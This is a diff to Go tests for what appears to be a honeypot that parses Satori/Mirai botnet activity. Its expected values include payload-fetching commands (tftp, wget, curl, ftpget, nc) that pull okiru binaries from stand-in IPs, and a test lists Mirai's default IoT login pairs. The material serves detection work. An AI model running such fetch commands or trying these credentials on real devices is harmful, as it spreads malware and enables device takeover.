@@ -259,7 +259,8 @@ func TestSatori(t *testing.T) {
 	}
 	want := []string{
 		"tftp tftp://198.51.100.20:69/okiru.mips /tmp/.okiru",
-		"wget http://198.51.100.20/bins/okiru.x86 ",
+		// sh -c runs its text: wget saw its -O.
+		"wget http://198.51.100.20/bins/okiru.x86 /tmp/.o",
 		"curl http://198.51.100.20/c.sh /tmp/x",
 		"ftpget ftp://anon:pw@198.51.100.21/pub/f.bin /var/f.bin",
 		"nc tcp://198.51.100.22:4444 /var/n.bin",
@@ -421,5 +422,16 @@ func TestConfigValidate(t *testing.T) {
 	c.Login.Mode = LoginList
 	if err := c.Validate(); err == nil || !strings.Contains(err.Error(), "login.accept") {
 		t.Fatalf("list without accept: %v", err)
+	}
+}
+func TestCredentialTable(t *testing.T) {
+	cs := newCredSet(miraiCredentials())
+	for _, c := range []Credential{{"root", "xc3511"}, {"root", ""}, {"admin", ""}, {"Administrator", "meinsm"}, {"admin", "4321"}, {"mother", "fucker"}, {"root", "7ujMko0admin"}} {
+		if _, ok := cs[c]; !ok {
+			t.Errorf("%v missing", c)
+		}
+	}
+	if _, ok := cs[Credential{"root", "hunter2"}]; ok {
+		t.Error("root/hunter2 accepted")
 	}
 }
